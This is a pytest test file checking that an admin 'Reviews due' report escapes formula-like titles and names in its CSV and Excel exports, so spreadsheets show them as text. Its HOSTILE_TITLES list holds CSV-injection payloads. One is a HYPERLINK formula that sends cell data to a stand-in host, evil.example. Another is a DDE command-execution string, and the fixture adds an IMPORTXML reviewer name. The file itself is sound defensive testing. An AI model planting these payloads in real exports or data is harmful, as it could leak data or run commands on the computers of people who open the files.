"""Exports of the Reviews due report never run a title or name as a spreadsheet formula
(CSV injection): such a cell is written so the spreadsheet shows it as text."""

import csv
import datetime
import io

import openpyxl
import pytest

from tests.factories import ArticlePageFactory, PersonFactory

REPORT_URL = "/admin/reports/reviews-due/"
HOSTILE_TITLES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_articles(clinic):
    reviewer = PersonFactory(name="=IMPORTXML(A1)", credentials="")
    due = datetime.date.today() + datetime.timedelta(days=5)
    for title in HOSTILE_TITLES:
        ArticlePageFactory(
            parent=clinic.learning_centre,
            title=title,
            clinical_reviewer=reviewer,
            last_reviewed=datetime.date.today() - datetime.timedelta(days=1000),
            next_review_due=due,
        )
    ArticlePageFactory(
        parent=clinic.learning_centre,
        title="Knee pain after running",
        clinical_reviewer=reviewer,
        last_reviewed=datetime.date.today() - datetime.timedelta(days=1000),
        next_review_due=due,
    )


def test_csv_cells_that_look_like_formulas_are_text(admin_client, hostile_articles):
    response = admin_client.get(REPORT_URL, {"export": "csv", "ordering": "title"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    titles = {row["Article"] for row in rows}
    assert titles == {"'" + title for title in HOSTILE_TITLES} | {"Knee pain after running"}
    assert {row["Clinical reviewer"] for row in rows} == {"'=IMPORTXML(A1)"}


def test_excel_cells_that_look_like_formulas_are_text(admin_client, hostile_articles):
    response = admin_client.get(REPORT_URL, {"export": "xlsx", "ordering": "title"})
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [row[0] for row in workbook.active.iter_rows(min_row=2)]
    hostile = [cell for cell in cells if cell.value != "Knee pain after running"]
    # XML reads a stored carriage return back as a line feed.
    expected = sorted(title.replace("\r", "\n") for title in HOSTILE_TITLES)
    assert sorted(cell.value for cell in hostile) == expected
    # A text cell with Excel's text prefix: shown as typed, never evaluated.
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)
    plain = next(cell for cell in cells if cell.value == "Knee pain after running")
    assert not plain.quotePrefix
